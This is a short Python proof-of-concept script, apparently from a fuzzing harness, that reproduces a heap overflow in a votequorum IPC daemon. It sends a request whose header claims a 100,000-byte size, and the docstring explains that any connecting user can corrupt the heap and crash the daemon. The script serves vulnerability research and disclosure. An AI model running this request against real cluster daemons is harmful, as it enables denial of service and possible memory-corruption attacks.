"""A client sends a datagram longer than the size agreed on: it overflows the daemon's heap.

Class: memory corruption (heap overflow), of as many bytes as the client likes, with its content. As many
bytes are received as the `size` in the request's header says, whatever the buffer's length is.
Reach: any user who may connect. Configuration: `system { qb_ipc_type: socket }`. Cost: one request.
Last words: malloc(): unsorted double linked list corrupted, and others. strace: SIGABRT or SIGSEGV.
"""

from __future__ import annotations

import construct as c

from fuzz.reproduce import reproduce
from votequorum_ipc.attack import Connect, Send
from votequorum_ipc.wire import votequorum
from votequorum_ipc.wire.layout import REQUEST_HEADER

TRANSPORTS = ("socket",)
OUTCOME = "dies or hangs"

_SIZE = 100_000
_HEADER = c.Struct(*REQUEST_HEADER)
_LONG = _HEADER.build({"id": votequorum.QDEVICE_SET_EXTRA_INFO.id, "size": _SIZE}).ljust(_SIZE, b"\0")

STEPS = (
    Connect(0, "votequorum"),
    Send(0, _LONG),
)

if __name__ == "__main__":
    reproduce(STEPS, __doc__)
